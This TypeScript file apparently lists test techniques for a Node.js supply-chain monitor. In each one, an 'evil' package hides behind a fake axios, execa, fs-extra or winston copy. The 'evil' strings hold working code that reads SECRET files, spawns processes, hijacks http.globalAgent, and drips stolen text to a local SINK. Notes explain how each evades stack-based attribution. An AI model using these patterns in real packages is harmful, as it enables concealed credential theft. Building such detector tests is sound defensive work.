import { techniques } from '../technique.ts';

const CLIENT = `const http = require('node:http');
exports.post = (url, data) => new Promise((done, fail) => {
  const request = http.request(url, { method: 'POST' }, (response) => response.resume().on('end', done));
  request.on('error', fail);
  request.end(data);
});`;

const packageOf = (name: string, version: string, code: string) => ({
  [`node_modules/${name}/package.json`]: JSON.stringify({ name, version, main: 'index.js' }),
  [`node_modules/${name}/index.js`]: code,
});

/** Acting through somebody who acts for others. */
export const DEPUTIES = techniques('field', [
  {
    name: 'http-client',
    deed: 'connect',
    says: 'an HTTP client posts for it',
    files: packageOf('axios', '1.13.2', CLIENT),
    evil: `const axios = require('axios'); exports.run = () => axios.post('http://127.0.0.1:' + SINK + '/', TOKEN).catch(() => {});`,
  },
  {
    name: 'http-client-later',
    limit: 'a function of the client itself is handed to a timer: who handed it on is on no stack',
    deed: 'connect',
    source: 'own',
    says: 'a timer calls the HTTP client',
    files: packageOf('axios', '1.13.2', CLIENT),
    evil: `const axios = require('axios'); exports.run = () => { setTimeout(axios.post, 1, 'http://127.0.0.1:' + SINK + '/', TOKEN); };`,
  },
  {
    name: 'http-client-promise',
    limit: 'a function of the client itself is handed to a promise: who handed it on is on no stack',
    deed: 'connect',
    source: 'own',
    says: 'a promise calls the HTTP client',
    files: packageOf('axios', '1.13.2', CLIENT),
    evil: `const axios = require('axios'); exports.run = () => { Promise.resolve('http://127.0.0.1:' + SINK + '/' + TOKEN).then(axios.post); };`,
  },
  {
    name: 'process-runner',
    deed: 'spawn',
    says: 'a process runner runs it',
    files: packageOf(
      'execa',
      '9.6.1',
      `const { spawn } = require('node:child_process'); exports.execa = (file, args = []) => new Promise((done) => spawn(file, args).on('close', done));`,
    ),
    evil: `const { execa } = require('execa'); exports.run = () => execa(STUB);`,
  },
  {
    name: 'file-helper',
    limit:
      'after its await the helper is alone on the stack; V8 tells who awaits an async function only while somebody does',
    deed: 'read',
    says: 'a file helper copies it',
    files: packageOf(
      'fs-extra',
      '11.3.2',
      `const fs = require('node:fs'); exports.copy = async (from, to) => { await null; return fs.promises.copyFile(from, to); };`,
    ),
    evil: `const { copy } = require('fs-extra'); exports.run = () => copy(SECRET, LOOT);`,
  },
  {
    name: 'logger-transport',
    deed: 'read',
    source: 'own',
    says: 'a logger’s file transport reads for it',
    files: packageOf(
      'winston',
      '3.18.3',
      `const fs = require('node:fs'); const queue = []; exports.tail = (file, done) => { queue.push([file, done]); if (queue.length === 1) setImmediate(() => { for (const [f, d] of queue.splice(0)) fs.readFile(f, 'utf8', (e, text) => d(text)); }); };`,
    ),
    evil: `const winston = require('winston'); exports.run = () => winston.tail(SECRET, prove);`,
    limit: 'a queue loses who put what into it: only the logger is on the stack',
  },
  {
    name: 'unknown-deputy',
    deed: 'read',
    source: 'own',
    says: 'a helper that nobody knows reads for it',
    files: packageOf(
      'tiny-slurp',
      '0.4.2',
      `const fs = require('node:fs'); exports.slurp = (file) => fs.readFileSync(file, 'utf8');`,
    ),
    evil: `const { slurp } = require('tiny-slurp'); exports.run = () => prove(slurp(SECRET));`,
  },
  {
    name: 'innocent-callback',
    deed: 'read',
    source: 'own',
    says: 'the innocent package calls back at once',
    evil: `const fs = require('node:fs'); exports.run = (innocent) => innocent.call(fs.copyFileSync, SECRET, LOOT);`,
  },
  {
    name: 'global-agent',
    deed: 'connect',
    source: 'own',
    says: "patches http.globalAgent, so that other packages' requests connect for it",
    files: packageOf('axios', '1.13.2', CLIENT),
    app: `require('evil').run(); require('axios').post('http://localhost:9/hello', 'x').catch(() => {});`,
    evil: `const http = require('node:http'), net = require('node:net'); exports.run = () => {
      const { createConnection } = http.globalAgent;
      http.globalAgent.createConnection = function (options, callback) {
        net.connect(SINK, '127.0.0.1', function () { this.end(TOKEN); });
        return createConnection.call(this, options, callback);
      };
    };`,
  },
  {
    name: 'drip',
    deed: 'connect',
    source: 'own',
    says: 'reads once, sends a character a time',
    evidence: /\[credential\]|^net\.connect/,
    evil: `const fs = require('node:fs'), net = require('node:net'); exports.run = () => {
      const text = fs.readFileSync(SECRET, 'utf8');
      net.connect(SINK, '127.0.0.1', function () { const next = (i) => i < 8 ? this.write(text[i], () => setTimeout(next, 2, i + 1)) : this.end(TOKEN); next(0); });
    };`,
  },
]);
